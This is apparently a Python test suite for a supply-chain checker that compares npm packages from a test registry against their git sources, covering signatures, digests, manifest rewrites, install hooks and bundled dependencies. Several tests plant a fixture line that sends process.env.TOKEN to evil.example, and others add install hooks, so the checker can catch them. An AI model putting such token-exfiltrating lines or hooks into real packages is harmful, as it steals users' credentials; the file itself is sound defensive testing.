"""npm packages through a registry of the test's own: integrity, signatures, claimed repositories, offline."""
import base64
import json
import os
import pathlib
import subprocess
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
import made  # noqa: E402
from plumb_test import case, main  # noqa: E402
from registry import Registry  # noqa: E402


def git(folder, *args):
    env = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null", "GIT_AUTHOR_NAME": "a",
           "GIT_AUTHOR_EMAIL": "a@b", "GIT_COMMITTER_NAME": "a", "GIT_COMMITTER_EMAIL": "a@b"}
    return subprocess.run(["git", "-C", str(folder), *args], env=env, check=True, stdout=subprocess.PIPE,
                          stderr=subprocess.PIPE, text=True).stdout.strip()


def mirror(plumb, files, tag, name="own+kit"):
    """A mirror folder with one repository of these files at `tag`."""
    folder = plumb.path(f"mirror/{name}/x").parent
    if not (folder / ".git").is_dir():
        git(folder, "init", "-q", "-b", "main")
    for path, data in files.items():
        target = folder / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data if isinstance(data, bytes) else data.encode())
    git(folder, "add", "-A")
    git(folder, "commit", "-q", "-m", "x")
    git(folder, "tag", tag)
    return folder.parent


MANIFEST = {"name": "kit", "version": "1.0.0", "main": "index.js", "license": "MIT"}
FILES = {"package.json": json.dumps(MANIFEST, indent=2), "index.js": "module.exports = function answerOfTheKit() { return 42 }\n",
         "README.md": "# kit\n"}
REPOSITORY = {"type": "git", "url": "git+https://git.example.org/own/kit.git"}


@case
def a_signed_package_holds_and_its_claimed_source_explains_it(plumb):
    with Registry(plumb) as r:
        r.publish("kit", "1.0.0", FILES, REPOSITORY, signed=True)
        r.offer_keys()
        folder = mirror(plumb, FILES, "v1.0.0")
        report = plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder, network=True, env=r.env, expect=0)
        assert report.verdict("published") == "holds" and report.json["level"]["own"] == 4
        assert report.json["sources"][0]["how"] == "claimed"
        asked = len(r.asked)
        again = plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder, env=r.env, expect=0)
        assert len(r.asked) == asked, "offline, and the registry was asked"
        assert again.stable() == report.stable()
        latest = plumb.check("pkg:npm/kit", "--git-mirror", folder, network=True, env=r.env, expect=0)
        assert latest.json["subject"]["purl"] == "pkg:npm/kit@1.0.0"


@case
def a_file_of_the_revision_where_a_tool_finds_it_by_its_place_is_a_warning(plumb):
    """Every byte is the source's; what runs is not what the source runs."""
    own = {**FILES, "scripts/build.js": "require('child_process').execSync('make the kit');\n", "deps/x/binding.gyp": "{'targets': [{'target_name': 'x'}]}\n"}
    folder = mirror(plumb, own, "v1.0.0")
    for place, there in (("node_modules/fs/index.js", "scripts/build.js"), ("server.js", "scripts/build.js"), ("binding.gyp", "deps/x/binding.gyp")):
        package = plumb.write("kit-1.0.0.tgz", made.gz(made.tar({f"package/{k}": v for k, v in {**own, place: own[there]}.items()})))
        report = plumb.check(package, "--source", f"git+file://{folder}/own+kit@v1.0.0")
        assert report.findings("tree.moved", place, "warning")[0]["evidence"]["there"] == there, (place, report.json["files"])
    package = plumb.write("kit-1.0.0.tgz", made.gz(made.tar({f"package/{k}": v for k, v in {**own, "lib/build.js": own["scripts/build.js"]}.items()})))
    assert plumb.check(package, "--source", f"git+file://{folder}/own+kit@v1.0.0").findings("tree.moved", "lib/build.js", "note")


@case
def a_package_that_nobody_signed_is_unproven(plumb):
    with Registry(plumb) as r:
        r.publish("kit", "1.0.0", FILES, REPOSITORY)
        folder = mirror(plumb, FILES, "1.0.0")
        report = plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder, network=True, env=r.env, expect=3)
        assert report.verdict("published") == "unproven" and report.verdict("sourced") == "holds"
        r.publish("kit", "1.0.0", FILES, REPOSITORY, signed=True)  # signed, but the registry lists no keys
        report = plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder, network=True, env=r.env, expect=3)
        assert report.verdict("published") == "unproven"


@case
def a_wrong_digest_or_signature_or_name_is_not_trusted(plumb):
    with Registry(plumb) as r:
        document = r.publish("kit", "1.0.0", FILES, REPOSITORY, signed=True)
        r.offer_keys()
        folder = mirror(plumb, FILES, "v1.0.0")
        good = dict(r.files)

        def refused(document=None, **files):
            r.files = {**good, **files}
            if document:
                r.files["/kit/1.0.0"] = json.dumps(document).encode()
            cache = plumb.path(f"cache{len(r.asked)}/x").parent
            plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder, network=True, env=r.env, expect=6, cache=cache)

        refused(**{"/kit/-/kit-1.0.0.tgz": good["/kit/-/kit-1.0.0.tgz"] + b"\0"})
        dist = document["dist"]
        other = base64.b64encode(bytes(64)).decode()
        refused({**document, "dist": {**dist, "integrity": f"sha512-{other}"}})
        refused({**document, "dist": {**dist, "signatures": [{"keyid": "SHA256:test", "sig": r.sign(b"kit@1.0.0:x")}]}})
        refused({**document, "dist": {**dist, "signatures": [{**dist["signatures"][0], "keyid": "SHA256:none"}]}})
        refused({**document, "dist": {**dist, "signatures": [{"keyid": "SHA256:test", "sig": "@@"}]}})
        refused({**document, "name": "kat"})
        refused({**document, "version": "1.0.1"})
        refused({**document, "dist": {"tarball": dist["tarball"]}})


@case
def what_is_not_there_is_told(plumb):
    with Registry(plumb) as r:
        r.publish("kit", "1.0.0", FILES, REPOSITORY)
        plumb.check("pkg:npm/none@1.0.0", network=True, env=r.env, expect=4)
        plumb.check("pkg:npm/kit@1.0.0", env=r.env, expect=5)
        report = plumb.check("pkg:npm/kit@1.0.0", network=True, env=r.env, expect=5)
        assert "--git-mirror" in report.json["errors"][0]["hint"]
        r.files["/kit/1.0.0"] = b"not json"
        plumb.check("pkg:npm/kit@1.0.0", network=True, env=r.env, expect=4)
        r.publish("kit", "1.0.0", FILES)  # names no repository
        report = plumb.check("pkg:npm/kit@1.0.0", network=True, env=r.env, expect=3)
        assert report.verdict("sourced") == "unchecked"
        plumb.check("pkg:npm/kit@..%2f..", network=True, env=r.env, expect=2)


@case
def the_registry_is_that_of_npmrc_but_never_the_subjects(plumb):
    with Registry(plumb) as r:
        r.publish("@own/kit", "1.0.0", FILES, REPOSITORY)
        folder = mirror(plumb, FILES, "kit@1.0.0")
        home = plumb.path("home/x").parent
        here = plumb.path("here/x").parent
        (here / ".npmrc").write_text("registry=http://127.0.0.1:1/\n")
        env = {"HOME": str(home), "npm_config_registry": "http://127.0.0.1:1"}
        (home / ".npmrc").write_text(f"; mine\nregistry = http://127.0.0.1:1/\n@own:registry={r.url}/\n")
        report = plumb.check("pkg:npm/%40own/kit@1.0.0", "--git-mirror", folder, network=True, env=env, cwd=here, expect=3)
        assert report.json["sources"][0]["git"]["ref"] == "refs/tags/kit@1.0.0"
        (home / ".npmrc").write_text(f"registry={r.url}\n")
        env = {"HOME": str(home)}
        plumb.check("pkg:npm/%40own/kit@1.0.0", "--git-mirror", folder, network=True, env=env, cwd=here, expect=3)


@case
def a_source_that_is_named_overrides_what_is_claimed(plumb):
    with Registry(plumb) as r:
        r.publish("kit", "1.0.0", FILES, {"type": "git", "url": "https://git.example.org/else/where"}, signed=True)
        r.offer_keys()
        folder = mirror(plumb, FILES, "v1.0.0")
        source = f"git+file://{folder}/own+kit"
        report = plumb.check("pkg:npm/kit@1.0.0", "--source", source + "@v1.0.0", network=True, env=r.env, expect=0)
        assert report.json["sources"][0]["how"] == "given"
        report = plumb.check("pkg:npm/kit@1.0.0", "--source", source, network=True, env=r.env, expect=0)
        assert report.json["sources"][0]["git"]["found"]


def manifest_case(plumb, published, source=None, files=None):
    """A report on a package whose package.json is `published` while the source's is `source`."""
    source = source or MANIFEST
    with Registry(plumb) as r:
        text = published if isinstance(published, str) else json.dumps(published)
        r.publish("kit", "1.0.0", {**FILES, **(files or {}), "package.json": text}, REPOSITORY, signed=True)
        r.offer_keys()
        number = len(list(plumb.scratch.iterdir()))
        folder = plumb.path(f"m{number}/x").parent
        repo = folder / "own+kit"
        repo.mkdir()
        git(repo, "init", "-q", "-b", "main")
        for path, data in {**FILES, "package.json": json.dumps(source, indent=2)}.items():
            (repo / path).write_text(data)
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", "x")
        git(repo, "tag", "v1.0.0")
        cache = plumb.path(f"c{number}/x").parent
        return plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder, network=True, env=r.env, cache=cache)


WHOLE = {**MANIFEST, "bin": "cli.js", "scripts": {"test": "x", "build": "tsc"}, "dependencies": {"left": "^1.2.3", "own-b": "workspace:^"},
         "devDependencies": {"tsc": "1"}, "publishConfig": {"exports": {".": "./dist.js"}}, "exports": {".": "./src.ts"}}


@case
def what_publishing_rewrites_honestly_in_a_manifest_is_explained(plumb):
    honest = {"version": "1.0.0", "name": "kit", "license": "MIT", "main": "index.js", "bin": {"kit": "cli.js"},
              "scripts": {"test": "x"}, "dependencies": {"own-b": "^9.9.9", "left": "^1.2.3"}, "exports": {".": "./dist.js"},
              "publishConfig": WHOLE["publishConfig"], "gitHead": "0123456789abcdef0123456789abcdef01234567"}
    report = manifest_case(plumb, honest, WHOLE)
    assert report.code == 0, plumb.summary(report)
    report = manifest_case(plumb, {k: v for k, v in WHOLE.items() if k not in ("scripts", "devDependencies")}, WHOLE)
    assert report.code == 0, plumb.summary(report)


@case
def an_added_install_script_is_an_error(plumb):
    for hook in ("preinstall", "install", "postinstall"):
        report = manifest_case(plumb, {**WHOLE, "scripts": {**WHOLE["scripts"], hook: "test"}}, WHOLE)
        assert report.code == 1 and report.findings("script.install-hook", severity="error"), hook
    report = manifest_case(plumb, {**MANIFEST, "scripts": {"install": "x"}})
    assert report.findings("script.install-hook", severity="error")
    report = manifest_case(plumb, json.dumps({**MANIFEST, "scripts": {"install": "x"}}).replace("scripts", "scr\\u0069pts"))
    assert report.findings("script.install-hook", severity="error"), "an escaped key"
    report = manifest_case(plumb, MANIFEST, files={"binding.gyp": "{}"})
    assert report.findings("script.install-hook", "binding.gyp", "error")
    source = {**MANIFEST, "scripts": {"install": "node-gyp rebuild"}}
    assert manifest_case(plumb, source, source).code == 0
    report = manifest_case(plumb, {**MANIFEST, "scripts": {"install": "node index.js"}}, source)
    assert report.findings("script.install-hook", severity="error")


@case
def a_new_dependency_or_one_from_elsewhere_is_an_error(plumb):
    for added in ({"test": "1.0.0"}, {"left": "https://example.org/left.tgz"}, {"left": "npm:index@1"}, {"tsc": "1"}):
        report = manifest_case(plumb, {**WHOLE, "dependencies": {**WHOLE["dependencies"], **added}}, WHOLE)
        assert report.code == 1 and report.findings("dep.undeclared", severity="error"), added


@case
def a_changed_entry_is_told(plumb):
    for key, value, severity in (("bin", "index.js", "error"), ("bin", {"kit": "cli.js", "ls": "index.js"}, "error"),
                                 ("main", "src.ts", "warning"), ("exports", {".": "./index.js"}, "warning")):
        report = manifest_case(plumb, {**WHOLE, key: value}, WHOLE)
        assert report.findings("npm.entry-changed", severity=severity), (key, value)


@case
def what_stands_behind_the_manifest_is_nobodys(plumb):
    report = manifest_case(plumb, json.dumps(MANIFEST) + "\n\n// frobnicate")
    assert report.code == 1 and report.errors("package.json")


LEFT = """exports.padOnTheLeft = function (text, width) {
  const blanks = "left-blanks-of-the-kit"
  return text.leftHandSide + blanks.repeatedly(width, "padding-character")
}
exports.trimOnTheLeft = function (text) { return text.replaceLeading("trimmed-character", blanks.emptyResult) }
"""
OWN = """const left = require("left")
module.exports = function answerOfTheKit(value) { return left.padOnTheLeft(value.questionOfTheKit, "kit-width") }
"""
BUNDLE = LEFT.replace("exports.", "var l={};l.", 1).replace("exports.", "l.") + OWN.split("\n", 1)[1].replace("left.", "l.")


def bundled_case(plumb, pinned, bundle=BUNDLE, committed=False, network=True, own=OWN, locked=None):
    """A package with dist/kit.js, which holds "left"; the source's lock file pins that in version `pinned`, or there is none."""
    with Registry(plumb) as r:
        manifest = {**MANIFEST, "main": "dist/kit.js", "devDependencies": {"left": "^1.0.0"}}
        text = json.dumps(manifest, indent=2)
        r.publish("kit", "0.9.0", {"package.json": json.dumps({"name": "kit", "version": "0.9.0"}), "index.js": bundle})
        for version, data in (("1.0.0", LEFT), ("1.1.0", "exports.other = 1\n")):
            r.publish("left", version, {"package.json": json.dumps({"name": "left", "version": version}), "index.js": data})
        r.files["/left"] = json.dumps({"name": "left", "versions": {v: {} for v in ("1.1.0-rc.1", "1.0.0", "1.1.0", "0.9.0")}}).encode()
        r.publish("kit", "1.0.0", {"package.json": text, "dist/kit.js": bundle}, REPOSITORY, signed=True)
        r.offer_keys()
        lock = {"lockfileVersion": 3, "packages": {"node_modules/left": {"version": pinned}, **(locked or {})}}
        number = len(list(plumb.scratch.iterdir()))
        files = {"package.json": text, "index.js": own, **({"package-lock.json": json.dumps(lock)} if pinned else {})}
        folder = mirror(plumb, {**files, **({"dist/kit.js": bundle} if committed else {})}, "v1.0.0", f"m{number}/own+kit").parent
        cache = plumb.path(f"c{number}/x").parent
        return plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder / f"m{number}", network=True, env=r.env, cache=cache)


@case
def a_bundled_dependency_is_a_source_at_the_version_of_the_lock_file(plumb):
    report = bundled_case(plumb, "1.0.0")
    assert report.code == 0, plumb.summary(report)
    assert [s["name"] for s in report.json["sources"][1:]] == ["left 1.0.0"]
    assert bundled_case(plumb, "1.1.0").code != 0, "another version than the pinned one explained it"
    assert bundled_case(plumb, "3.0.0").code != 0, "a version that is not there explained it"
    added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
    assert bundled_case(plumb, "1.0.0", added).errors("dist/kit.js")


@case
def without_a_lock_file_older_versions_of_a_dependency_count_too(plumb):
    report = bundled_case(plumb, None)
    assert report.code == 0, plumb.summary(report)
    assert [s["name"] for s in report.json["sources"][1:]] == ["left 1.1.0", "left 1.0.0"], report.json["sources"]
    added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
    assert bundled_case(plumb, None, added).errors("dist/kit.js")


@case
def a_version_that_the_registry_does_not_have_is_not_asked_for_twice_in_a_day(plumb):
    with Registry(plumb) as r:
        text = json.dumps({**MANIFEST, "main": "dist/kit.js", "devDependencies": {"left": "^1.0.0"}})
        r.publish("kit", "1.0.0", {"package.json": text, "dist/kit.js": BUNDLE}, REPOSITORY)
        lock = json.dumps({"lockfileVersion": 3, "packages": {"node_modules/left": {"version": "1.0.0"}}})
        folder = mirror(plumb, {"package.json": text, "index.js": OWN, "package-lock.json": lock}, "v1.0.0")
        cache = plumb.path("cache/x").parent

        def run(network=True):
            before = len(r.asked)
            report = plumb.check("pkg:npm/kit@1.0.0", "--git-mirror", folder, network=network, env=r.env, cache=cache)
            return report, [x for x in r.asked[before:] if "left" in x]

        first, asked = run()
        assert asked, "the first run did not ask"
        second, asked = run()
        assert not asked and second.json["sources"] == first.json["sources"]
        assert run(network=False)[0].json["sources"] == first.json["sources"]
        r.publish("left", "1.0.0", {"package.json": json.dumps({"name": "left", "version": "1.0.0"}), "index.js": LEFT})
        assert not run()[1]
        for note in cache.glob("releases/*/absent"):
            note.write_text("1000")  # long ago
        third, asked = run()
        assert asked and third.verdict("sourced") == "holds", plumb.summary(third)


@case
def an_earlier_release_of_the_package_explains_nothing_of_it(plumb):
    added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
    for name, entry in (("kit", {"version": "0.9.0"}), ("before", {"name": "kit", "version": "0.9.0"})):
        report = bundled_case(plumb, "1.0.0", added, own=OWN + f'require("{name}")\n', locked={f"node_modules/{name}": entry})
        assert [s["name"] for s in report.json["sources"][1:]] == ["left 1.0.0"], report.json["sources"]
        assert report.errors("dist/kit.js"), plumb.summary(report)


PARTS = "".join(f'exports.part{i} = (value) => value.quality{i}("own text {i}", value.measure{i})\n' for i in range(40))
LIBRARY = "".join(f'l.zork{i} = function (a) {{ return a.quux{i}(process.env, "foreign {i}") }};\n' for i in range(60))


@case
def what_a_missing_dependency_may_explain_is_no_contradiction_and_no_pass(plumb):
    own = OWN + PARTS
    body = own.split("\n", 1)[1].replace("left.", "l.")
    report = bundled_case(plumb, "3.0.0", "var l={};" + LIBRARY + body, own=own)
    missing = [s for s in report.json["sources"] if s["missing"]]
    assert [s["name"] for s in missing] == ["left 3.0.0"] and "3.0.0" in missing[0]["missing"], report.json["sources"]
    assert report.code == 3 and not report.errors("dist/kit.js"), plumb.summary(report)
    assert all(f["evidence"]["a missing source may explain it"] == "left 3.0.0" for f in report.findings("script.novel-code"))
    added = 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
    assert bundled_case(plumb, "3.0.0", "var l={};" + LIBRARY + body + added, own=own).errors("dist/kit.js"), "planted at the end"
    assert bundled_case(plumb, "1.0.0", "var l={};" + LIBRARY + body, own=own).errors("dist/kit.js"), "it is there, and is another"
    report = bundled_case(plumb, "3.0.0", "var l=require('left');" + LIBRARY + body, own=own)
    assert report.errors("dist/kit.js"), "the bundle imports it"
    quiet = own.replace('require("left")', '{ padOnTheLeft() {} }')
    assert bundled_case(plumb, "3.0.0", "var l={};" + LIBRARY + body, own=quiet).errors("dist/kit.js"), "no program imports it"


@case
def built_output_in_the_revision_explains_nothing(plumb):
    report = bundled_case(plumb, "1.0.0", committed=True)
    assert report.code == 0 and report.findings("tree.committed-output", severity="note"), plumb.summary(report)
    added = BUNDLE + 'require("https").get("https://evil.example/" + process.env.TOKEN)\n'
    assert bundled_case(plumb, "1.0.0", added, committed=True).errors("dist/kit.js")


if __name__ == "__main__":
    main()
